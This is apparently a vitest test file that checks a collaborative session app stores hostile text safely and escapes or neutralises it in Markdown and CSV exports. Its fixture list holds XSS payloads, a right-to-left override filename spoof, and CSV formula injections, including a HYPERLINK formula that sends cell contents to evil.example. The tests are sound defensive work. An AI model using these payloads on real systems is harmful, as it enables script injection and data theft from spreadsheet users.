/**
 * Hostile text in names, notes, takeaways and propositions: script tags, right-to-left overrides,
 * zero-width characters, spreadsheet formulas, 100 KB strings. Within limits it is stored as
 * written (it is someone's words); over the limit it is refused or left out of every reading; in
 * the real export endpoints it is escaped in Markdown and neutralised in CSV.
 */
import { BOARD_ROOT } from '../../shared/session/activities';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as Y from 'yjs';
import { addInitiative } from '../../shared/activities/quadrant/initiatives';
import { addProposition } from '../../shared/activities/propositions/actions';
import { addTakeaway } from '../../shared/activities/takeaways/actions';
import { LIMITS } from '../../shared/core/protocol';
import { readBoard, readControl } from '../../shared/session/schema';
import { startServer, stopAndClean, type TestServer } from '../helpers/server';
import {
  api,
  connectClient,
  createSession,
  facilitatorParams,
  joinSession,
  namespaceMap,
  participantParams,
  waitUntil,
  whenSynced,
  type ConnectedClient,
  type CreatedSession,
  type Participant,
} from '../helpers/server-clients';
import {
  initiativeId as asInitiativeId,
  participantId as asParticipantId,
  takeawayId as asTakeawayId,
} from '../../shared/core/ids';

const HOSTILE = [
  '<script>alert("x")</script>',
  '<img src=x onerror=alert(1)>',
  '\u202Egnp.exe\u202C report',
  'zero\u200Bwidth\u200D\uFEFFjoin',
  '=HYPERLINK("http://evil.example/?"&A1,"klik")',
  '+SUM(1+1)',
  '-2+3',
  '@cmd',
  '\t=1+1',
  ' =1+1',
  '＝1+1',
  '# heading [link](http://evil.example) ![img](x) | pipe |',
] as const;
const HUGE = 'A'.repeat(100 * 1024);

let server: TestServer;
let session: CreatedSession;
let writer: Participant;
let board: ConnectedClient;
let control: ConnectedClient;

async function exported(file: string): Promise<string> {
  const response = await api(server, 'GET', `/api/sessions/${session.code}/export/${file}`, {
    headers: { Authorization: `Bearer ${session.facilitatorKey}` },
  });
  expect(response.status).toBe(200);
  return response.text;
}

/** RFC 4180 cells of a CSV text (quoted cells may hold delimiters, quotes and line breaks). */
function csvCells(text: string, delimiter: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  for (let index = 0; index < body.length; index += 1) {
    const char = body.charAt(index);
    if (quoted) {
      if (char === '"' && body.charAt(index + 1) === '"') {
        cell += '"';
        index += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === delimiter || char === '\n') {
      cells.push(cell.replace(/\r$/, ''));
      cell = '';
    } else cell += char;
  }
  if (cell !== '') cells.push(cell);
  return cells;
}

beforeAll(async () => {
  server = await startServer();
  session = await createSession(server, { lang: 'en', title: '<b>Wijk</b> =1+1' });
  writer = await joinSession(server, session.code, 'Writer');
  board = connectClient(server, session.code, 'board', participantParams(writer));
  control = connectClient(server, session.code, 'control', facilitatorParams(session));
  await Promise.all([whenSynced(board), whenSynced(control)]);
});

afterAll(async () => {
  try {
    board.destroy();
    control.destroy();
  } finally {
    await stopAndClean(server);
  }
});

describe('storing hostile text', () => {
  it('stores hostile names as written, and refuses a 100 KB name', async () => {
    const ids: string[] = [];
    for (const name of HOSTILE)
      ids.push(
        (await joinSession(server, session.code, name.slice(0, LIMITS.participantNameMaxLength)))
          .participantId,
      );
    const huge = await api(server, 'POST', `/api/sessions/${session.code}/participants`, {
      body: { name: HUGE },
    });
    expect([400, 413]).toContain(huge.status);
    await waitUntil(
      () => ids.every((id) => readBoard(board.doc).participants[id] !== undefined),
      'names relayed',
    );
    expect(ids.map((id) => readBoard(board.doc).participants[id]?.name)).toEqual(
      HOSTILE.map((name) => name.slice(0, LIMITS.participantNameMaxLength).trim()),
    );
  });

  it('stores hostile notes and takeaways within their limits, and the shared actions refuse 100 KB', () => {
    HOSTILE.forEach((text, index) => {
      expect(
        addInitiative(board.doc, asParticipantId(writer.participantId), {
          id: asInitiativeId(`h${index}`),
          text,
          x: 0,
          y: 0,
          at: Date.now(),
        }).ok,
      ).toBe(true);
      if (index < LIMITS.maxTakeawaysPerParticipant)
        expect(
          addTakeaway(board.doc, asParticipantId(writer.participantId), {
            id: asTakeawayId(`t${index}`),
            text,
            at: Date.now(),
          }).ok,
        ).toBe(true);
    });
    expect(
      addInitiative(board.doc, asParticipantId(writer.participantId), {
        text: HUGE,
        x: 0,
        y: 0,
        at: Date.now(),
      }).ok,
    ).toBe(false);
    expect(
      addTakeaway(board.doc, asParticipantId(writer.participantId), { text: HUGE, at: Date.now() })
        .ok,
    ).toBe(false);
    expect(
      addInitiative(board.doc, asParticipantId(writer.participantId), {
        text: 'x'.repeat(LIMITS.initiativeTextMaxLength + 1),
        x: 0,
        y: 0,
        at: Date.now(),
      }).ok,
    ).toBe(false);
  });

  it('refuses a 100 KB note written around the actions at the relay, so no reading ever sees it', async () => {
    const refused = server.waitForLog(
      (line) => line.event === 'budget-refused' && line['budget'] === 'schema',
    );
    namespaceMap(board.doc, BOARD_ROOT.initiatives, writer.participantId).set(
      'huge',
      new Y.Map<unknown>([
        ['text', HUGE],
        ['colour', 'yellow'],
        ['x', 0],
        ['y', 0],
        ['createdAt', 1],
        ['updatedAt', 1],
      ]),
    );
    await refused;
    const reader = connectClient(server, session.code, 'board', facilitatorParams(session));
    await whenSynced(reader);
    // Before the relay's budgets, the note was relayed and only the readers skipped it.
    expect(namespaceMap(reader.doc, BOARD_ROOT.initiatives, writer.participantId).has('huge')).toBe(
      false,
    );
    expect(readBoard(reader.doc).initiatives[writer.participantId]?.huge).toBeUndefined();
    expect(Object.keys(readBoard(reader.doc).initiatives[writer.participantId] ?? {})).toHaveLength(
      HOSTILE.length,
    );
    reader.destroy();
  });

  it("stores a facilitator's hostile propositions within the limit", async () => {
    HOSTILE.forEach((text, index) =>
      expect(addProposition(control.doc, { id: `p${index}`, text }).ok).toBe(true),
    );
    expect(addProposition(control.doc, { text: HUGE }).ok).toBe(false);
    const reader = connectClient(server, session.code, 'control', participantParams(writer));
    await waitUntil(
      () =>
        readControl(reader.doc).propositions.filter((proposition) => proposition.id.startsWith('p'))
          .length >= HOSTILE.length,
      'propositions relayed',
    );
    reader.destroy();
  });
});

describe('exporting hostile text', () => {
  it('escapes every hostile string in report.md: no HTML, no links, no headings from participants', async () => {
    const report = await exported('report.md');
    // CommonMark reads a backslash-escaped `\<` as a plain "<": only an unescaped one could open HTML.
    expect(report).not.toMatch(/(^|[^\\])</m);
    expect(report).not.toMatch(/\]\(http:\/\/evil/);
    expect(report).not.toMatch(/^#+ heading/m);
    expect(report).toContain('\\<script\\>');
    expect(report).not.toContain(HUGE.slice(0, 1000));
  });

  it.each(['initiatives.csv', 'takeaways.csv', 'votes.csv'])(
    'neutralises formulas in %s',
    async (file) => {
      const csv = await exported(file);
      const cells = csvCells(csv, ',');
      const formulas = cells.filter(
        (cell) =>
          /^[\s\u00A0]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r]/.test(cell) &&
          !/^-?\d+([.,]\d+)?$/.test(cell.trim()),
      );
      expect(formulas).toEqual([]);
      if (file !== 'votes.csv') expect(cells.some((cell) => cell.includes('HYPERLINK'))).toBe(true);
      expect(csv).not.toContain(HUGE.slice(0, 1000));
    },
  );

  it('keeps the hostile text itself in session.json, as data, for a faithful backup', async () => {
    const json: unknown = JSON.parse(await exported('session.json'));
    const text = JSON.stringify(json);
    expect(text).toContain('HYPERLINK');
    expect(text).toContain('\u202E');
    expect(text).not.toContain(HUGE.slice(0, 1000));
  });
});
